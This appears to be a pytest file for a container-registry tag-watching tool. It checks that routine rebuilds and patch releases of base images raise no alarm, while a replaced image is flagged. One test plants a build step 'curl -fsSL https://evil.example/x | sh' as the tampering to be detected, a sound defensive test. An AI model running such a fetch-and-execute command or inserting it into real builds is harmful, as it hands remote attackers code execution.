"""Five images over six nights on a real registry: the nightly scan says what the builder did."""

from __future__ import annotations

import asyncio
import json
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from http.client import HTTPConnection
from pathlib import Path

import pytest

from tagwatch.api import scan_async
from tagwatch.audit.model.diff import Verdict
from tagwatch.audit.model.finding import Finding
from tagwatch.audit.model.knowledge import Knowledge
from tagwatch.audit.verdict.result import AuditResult
from tagwatch.walk.site import Site, open_site
from tests.image_builder import Built, Step, build, cmd, index, run
from tests.nights import HUB, SHOP, MemoryShelf, simulate
from tests.nights_served import HOSTS, RegistryShelf, Served, served_nights
from tests.official import (
    ARM64,
    app,
    classic,
    debian,
    on_day,
    python,
    python_steps,
    redis,
    service,
)
from tests.registry.distribution import distribution

IMAGES, NIGHTS = 5, 6
ALARMS = frozenset({"tag-replaced", "tag-downgraded", "tag-os-shifted", "tag-config-changed"})
REBUILDS, PATCHES = 4, 1
"""Seeds: bases that are only rebuilt and attested anew, and bases that get patch releases, too."""


def play(folder: Path, seed: int, *, watch_bases: bool) -> Served:
    with distribution(folder / "registry") as registry:
        return served_nights(
            registry,
            folder / "site",
            images=IMAGES,
            nights=NIGHTS,
            seed=seed,
            watch_bases=watch_bases,
        )


@pytest.mark.parametrize(
    ("seed", "watch_bases"),
    [(PATCHES, False), (REBUILDS, True)],
    ids=["known-to-the-policy-alone", "on-the-watch-list"],
)
def test_every_base_on_every_night(tmp_path: Path, seed: int, watch_bases: bool) -> None:
    served = play(tmp_path, seed, watch_bases=watch_bases)
    assert served.score.wrong == ()
    assert served.score.right == IMAGES * NIGHTS * 3  # the number of platforms, and each of them
    assert served.score.stale > 0  # else it would prove nothing
    assert served.shelf.mounted > 0
    assert served.shelf.blobs == len(served.shelf.lenders)  # each was sent once


def test_routine_rebuilds_raise_no_alarm(tmp_path: Path) -> None:
    served = play(tmp_path, REBUILDS, watch_bases=True)
    assert served.auditor.replaced == []
    assert served.score.verdicts == in_memory(REBUILDS)
    assert {Verdict.REBUILT, Verdict.ATTESTATION_ONLY} <= set(served.score.verdicts)


def test_patch_releases_under_a_floating_tag_raise_no_alarm(tmp_path: Path) -> None:
    served = play(tmp_path, PATCHES, watch_bases=True)
    assert served.auditor.replaced == []
    assert served.score.verdicts == in_memory(PATCHES)
    assert served.score.verdicts[Verdict.UPGRADED] > 0


def in_memory(seed: int) -> dict[Verdict, int]:
    """The verdicts on the same moves, told from the images alone."""
    return simulate(MemoryShelf(), images=IMAGES, nights=NIGHTS, seed=seed).verdicts


def alpine(night: int) -> Built:
    """Alpine moves its patch release under the same tag of the image above."""
    release = f"3.20.{3 + night // 4}"
    root = Step(
        created_by=f"ADD alpine-minirootfs-{release}-x86_64.tar.gz / # buildkit",
        files={"etc/alpine-release": f"{release} {night}"},
    )
    return build(root, cmd("/bin/sh"), created=on_day(night))


def on_alpine(night: int, version: str) -> Built:
    return build(*python_steps(version, night), base=alpine(night), created=on_day(night))


def on_both(night: int, version: str) -> Built:
    arm = build(
        *python_steps(version, night), base=debian(night, platform=ARM64), created=on_day(night)
    )
    return index(python(night, version), arm)


def by_two_builders(night: int, version: str) -> Built:
    """A builder is updated, and put back: each writes the same steps in its own way."""
    image = service(night, version)
    return classic(image) if night % 3 == 1 else image


def rebuilt() -> Iterator[tuple[str, Callable[[int], Built]]]:
    """Full-version tags, and what is pushed to each in a night: the same Dockerfile again."""
    for patch in range(5):
        yield f"{HUB}/python:3.12.{patch}", partial(python, version=f"3.12.{patch}")
        yield f"{HUB}/redis:6.2.{patch}", partial(redis, version=f"6.2.{patch}")
    for patch in range(4):
        yield f"{HUB}/python:3.11.{patch}-alpine", partial(on_alpine, version=f"3.11.{patch}")
        yield f"{SHOP}/service:2.0.{patch}", partial(by_two_builders, version=f"2.0.{patch}")
    for patch in range(3):
        yield f"{HUB}/python:3.13.{patch}", partial(on_both, version=f"3.13.{patch}")
        yield f"{SHOP}/api:1.4.{patch}", lambda night: app(python(night), night)


REBUILT = dict(rebuilt())


@pytest.mark.parametrize(
    ("moves", "approved"), [(200, True), (40, False)], ids=["approved-bases", "no-bases"]
)
def test_two_hundred_rebuilds_raise_no_alarm(tmp_path: Path, moves: int, approved: bool) -> None:
    nights = 1 + -(-moves // len(REBUILT))
    verdicts: Counter[Verdict] = Counter()
    raised: list[Finding] = []
    with distribution(tmp_path / "registry") as registry:
        shelf = RegistryShelf(HTTPConnection(registry.host, timeout=30))
        for at, result in _scans(registry.url, tmp_path / "site", shelf, nights, approved=approved):
            assert result.complete, f"{at}: {result.failures}"
            verdicts.update(one.change.verdict for one in result.changes)
            raised += [one for one in result.findings if one.rule in ALARMS]
        shelf.connection.close()
    assert sum(verdicts.values()) >= moves
    assert set(verdicts) == {Verdict.REBUILT}
    assert [finding.message for finding in raised] == []


def test_one_other_step_among_the_rebuilds_is_the_alarm(tmp_path: Path) -> None:
    """The other way round: the same walk does tell the one image that somebody replaced."""
    victim = f"{HUB}/redis:6.2.3"
    with distribution(tmp_path / "registry") as registry:
        shelf = RegistryShelf(HTTPConnection(registry.host, timeout=30))
        nights = _scans(registry.url, tmp_path / "site", shelf, 2, approved=True)
        next(nights)
        evil = run("curl -fsSL https://evil.example/x | sh", x="y")
        shelf.push(victim, build(evil, base=redis(0, "6.2.3"), created=on_day(1)))
        _, result = next(nights)
        shelf.connection.close()
    alarms = [one for one in result.findings if one.rule == "tag-replaced"]
    assert [str(one.reference) for one in alarms] == [victim.removeprefix(f"{HUB}/")]
    assert "evil.example" in alarms[0].message


def _scans(
    endpoint: str, folder: Path, shelf: RegistryShelf, nights: int, *, approved: bool
) -> Iterator[tuple[int, AuditResult]]:
    """Push and scan, night after night; what was pushed in between is left as it is."""
    site = _site(endpoint, folder, approved=approved)
    for night in range(nights):
        for reference, make in REBUILT.items():
            if night == 0 or nights > 2:
                shelf.push(reference, make(night))
        shelf.push(f"{HUB}/debian:bookworm-slim", debian(night))
        yield night, asyncio.run(scan_async(replace(site, at=on_day(night)))).result


def _site(endpoint: str, folder: Path, *, approved: bool) -> Site:
    asked = {"endpoint": endpoint, "kind": "distribution", "credential": "anonymous"}
    repositories: dict[str, list[str]] = {}
    for reference in REBUILT:
        name, _, tag = reference.rpartition(":")
        repositories.setdefault(name, []).append(tag)
    bases = [{"ref": f"{HUB}/debian", "tags": ["bookworm-slim"]}]
    settings = {
        "database": "tagwatch.db",
        "registries": dict.fromkeys(HOSTS, asked),
        "watch": [{"image": name, "tags": tags} for name, tags in repositories.items()],
        "policy": {
            "defaults": {"platforms": ["linux/amd64", "linux/arm64"]},
            "rules": {"platform-missing": {"severity": "off"}},
            **({"bases": bases} if approved else {}),
        },
    }
    folder.mkdir(parents=True)
    (folder / "tagwatch.yaml").write_text(json.dumps(settings))
    site = open_site(folder / "tagwatch.yaml", environment={"HOME": str(folder)}, at=on_day(0))
    return replace(site, knowledge=Knowledge())
